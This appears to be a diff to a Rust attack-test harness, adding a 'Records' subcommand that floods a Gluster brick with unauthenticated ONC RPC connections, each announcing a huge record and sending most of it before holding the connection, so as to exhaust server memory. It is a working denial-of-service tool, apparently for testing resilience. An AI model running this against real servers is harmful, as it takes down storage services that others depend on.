@@ -32,6 +32,19 @@ enum AttackCommand {
         #[arg(long)]
         each: usize,
     },
+    /// Send messages without an end to a server of a RAM disk, over several connections that know no secret, and over new ones
+    /// when they are closed, until it is killed. Prints `ready` once each connection has sent, or was refused.
+    Records {
+        /// `ADDRESS:PORT` of the brick.
+        #[arg(long)]
+        brick: SocketAddr,
+        /// How many connections.
+        #[arg(long)]
+        connections: usize,
+        /// Connections that say nothing, beside them.
+        #[arg(long)]
+        idle: usize,
+    },
     /// Answer requests with what another daemon answers to them, until it is killed. Prints `ready` when it listens.
     PassOff {
         /// `ADDRESS:PORT`.
@@ -62,6 +75,7 @@ enum How {
 fn main() -> ExitCode {
     let done = match AttackCommand::parse() {
         AttackCommand::Crowd { daemon, from, each } => crowd(daemon, &from, each),
+        AttackCommand::Records { brick, connections, idle } => records(brick, connections, idle),
         AttackCommand::PassOff { listen, daemon, how } => pass_off(listen, daemon, &how),
     };
     let Err(error) = done;
@@ -71,6 +85,50 @@ fn main() -> ExitCode {
 
 fn ready() {
     println!("ready");
+}
+
+/// The size that a message announces: somewhat below the greatest that Gluster takes.
+const RECORD: usize = 0x3000_0000;
+
+fn records(brick: SocketAddr, connections: usize, idle: usize) -> Result<std::convert::Infallible> {
+    let _silent: Vec<TcpStream> = (0..idle)
+        .map(|_| TcpStream::connect(brick).with_context(|| format!("can't connect to {brick}")))
+        .collect::<Result<_>>()?;
+    let (tell, told) = std::sync::mpsc::channel();
+    for _ in 0..connections {
+        let tell = tell.clone();
+        std::thread::spawn(move || {
+            loop {
+                // What is refused is tried again.
+                let _ = record(brick);
+                let _ = tell.send(());
+                std::thread::sleep(Duration::from_millis(50));
+            }
+        });
+    }
+    for _ in 0..connections {
+        told.recv()?;
+    }
+    ready();
+    loop {
+        std::thread::park();
+    }
+}
+
+/// Sends all but the end of one message, and holds the connection for a while.
+fn record(brick: SocketAddr) -> Result<()> {
+    let mut stream = TcpStream::connect(brick)?;
+    stream.set_write_timeout(Some(Duration::from_secs(5)))?;
+    // RFC 5531: the size of a fragment that is the last one; a call of version 2; no credential and no verifier.
+    let size = RECORD as u32 | 1 << 31;
+    let call: [u32; 11] = [size, 1, 0, 2, 1, 1, 1, 0, 0, 0, 0];
+    stream.write_all(&call.map(u32::to_be_bytes).concat())?;
+    let zeros = vec![0; 1 << 20];
+    for _ in 0..RECORD / zeros.len() - 1 {
+        stream.write_all(&zeros)?;
+    }
+    std::thread::sleep(Duration::from_secs(2));
+    Ok(())
 }
 
 fn crowd(daemon: SocketAddr, from: &[IpAddr], each: usize) -> Result<std::convert::Infallible> {
